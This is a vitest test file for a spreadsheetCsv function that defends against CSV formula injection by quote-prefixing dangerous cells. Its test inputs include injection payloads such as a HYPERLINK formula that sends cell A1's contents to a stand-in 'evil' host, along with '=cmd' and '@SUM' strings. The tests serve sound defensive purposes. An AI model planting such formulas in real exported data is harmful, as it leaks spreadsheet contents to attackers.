import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { spreadsheetCsv } from './spreadsheet-csv';

/** The cells a spreadsheet would see: the CSV parsed back. */
const cells = (csv: string) => parse(csv, { relax_column_count: true }) as string[][];

describe('spreadsheetCsv', () => {
  it('prefixes with a quote every cell a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    const attacks = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1+1'];
    const [row] = cells(spreadsheetCsv([attacks]));
    expect(row).toEqual(attacks.map((attack) => `'${attack}`));
  });

  it('keeps the quoting correct: the quote goes inside the quotes, embedded quotes are doubled', () => {
    expect(spreadsheetCsv([['=HYPERLINK("http://evil/?"&A1,"x")']])).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"\n`);
    expect(spreadsheetCsv([['@a,b', 'plain']])).toBe(`"'@a,b",plain\n`);
  });

  it('leaves a JSON number alone, minus sign included, but neutralises the same text in a string', () => {
    expect(cells(spreadsheetCsv([[-2, -1.5, 3, '-2']]))).toEqual([['-2', '-1.5', '3', "'-2"]]);
  });

  it('writes nothing for null, JSON for objects and lists, true/false for booleans', () => {
    expect(cells(spreadsheetCsv([[null, undefined, { a: '=1' }, ['-x'], true, false]]))).toEqual([
      ['', '', '{"a":"=1"}', '["-x"]', 'true', 'false'],
    ]);
  });

  it('leaves text that merely contains a formula character untouched', () => {
    expect(cells(spreadsheetCsv([['a=1', 'x-y', 'mail@example.com', ' =1']]))).toEqual([['a=1', 'x-y', 'mail@example.com', ' =1']]);
  });

  it('treats headers like any other cell', () => {
    expect(
      spreadsheetCsv([
        ['name', '=cmd'],
        ['a', 'b'],
      ]),
    ).toBe("name,'=cmd\na,b\n");
  });
});
